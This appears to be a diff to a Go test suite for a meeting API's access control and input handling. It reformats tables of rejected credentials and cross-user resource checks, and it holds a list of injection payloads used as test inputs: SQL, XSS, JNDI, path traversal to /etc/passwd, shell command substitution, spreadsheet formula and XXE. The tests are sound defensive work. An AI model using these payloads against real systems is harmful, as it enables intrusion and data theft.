@@ -333,8 +333,12 @@ func TestEveryRouteIsAnsweredToEachCredentialByTheTable(t *testing.T) {
 	bearer := func(key string) []string { return []string{"Authorization", "Bearer " + g.keys[key]} }
 	revoked := g.keys["revoked"]
 	denied := []credential{
-		{"nothing", nil, 401, ""}, {"garbage", []string{"Authorization", "Bearer garbage"}, 401, ""}, {"another scheme", []string{"Authorization", "Basic cm9vdDpyb290"}, 401, ""},
-		{"a key that nobody made", []string{"X-API-Key", "mm_live_" + strings.Repeat("x", 58)}, 401, ""}, {"an expired key", bearer("expired"), 401, ""}, {"a revoked key", []string{"X-API-Key", revoked}, 401, ""},
+		{"nothing", nil, 401, ""},
+		{"garbage", []string{"Authorization", "Bearer garbage"}, 401, ""},
+		{"another scheme", []string{"Authorization", "Basic cm9vdDpyb290"}, 401, ""},
+		{"a key that nobody made", []string{"X-API-Key", "mm_live_" + strings.Repeat("x", 58)}, 401, ""},
+		{"an expired key", bearer("expired"), 401, ""},
+		{"a revoked key", []string{"X-API-Key", revoked}, 401, ""},
 		{"two credentials", append(bearer("admin"), "X-API-Key", g.keys["service"]), 401, ""},
 		{"a session that nobody opened", []string{"Cookie", "meet_session=" + strings.Repeat("x", 43)}, 401, ""},
 	}
@@ -451,9 +455,14 @@ func TestWhatIsAnothersIsAnsweredAsWhatIsNotThere(t *testing.T) {
 	g := guard(t)
 	own, other := g.settle()
 	for _, c := range []struct{ theirs, none string }{
-		{"meetings/" + other.meeting, "meetings/999999"}, {"meetings/" + other.uid, "meetings/01936f5e-7c00-7000-8000-00000000000c"}, {"meetings/" + other.meeting + "/participants", "meetings/999999/participants"},
-		{"recordings/" + other.recording, "recordings/999999"}, {"participants/" + other.participant, "participants/999999"}, {"users/" + other.user, "users/999999"},
-		{"operations/" + other.operation, "operations/01936f5e-7c00-7000-8000-00000000000c"}, {"jobs/" + other.job, "jobs/01936f5e-7c00-7000-8000-00000000000c"},
+		{"meetings/" + other.meeting, "meetings/999999"},
+		{"meetings/" + other.uid, "meetings/01936f5e-7c00-7000-8000-00000000000c"},
+		{"meetings/" + other.meeting + "/participants", "meetings/999999/participants"},
+		{"recordings/" + other.recording, "recordings/999999"},
+		{"participants/" + other.participant, "participants/999999"},
+		{"users/" + other.user, "users/999999"},
+		{"operations/" + other.operation, "operations/01936f5e-7c00-7000-8000-00000000000c"},
+		{"jobs/" + other.job, "jobs/01936f5e-7c00-7000-8000-00000000000c"},
 	} {
 		theirs, none := g.with("external", "GET", c.theirs+"/", ""), g.with("external", "GET", c.none+"/", "")
 		if theirs.status != http.StatusNotFound || theirs.body != none.body || theirs.status != none.status {
@@ -482,7 +491,7 @@ func TestWhatIsAnothersIsAnsweredAsWhatIsNotThere(t *testing.T) {
 // injections are what has broken other programs.
 var injections = []string{
 	`'; DROP TABLE meetings; --`, `" OR "1"="1`, `<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `{{7*7}}`, `${jndi:ldap://x/a}`, `%00`, `../../etc/passwd`,
-	`$(touch /tmp/x)`, "`id`", `\u0027`, `a\nBcc: x@y.z`, `%s%n%x`, `=cmd|'/C calc'!A0`, `‮evil`, `{"$gt":""}`, `*)(uid=*`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, `a'||pg_sleep(3)||'`,
+	`$(touch /tmp/x)`, "`id`", `\u0027`, `a\nBcc: x@y.z`, `%s%n%x`, `=cmd|'/C calc'!A0`, "\u202eevil", `{"$gt":""}`, `*)(uid=*`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, `a'||pg_sleep(3)||'`,
 }
 
 func TestWhatIsWrittenComesBackAsText(t *testing.T) {
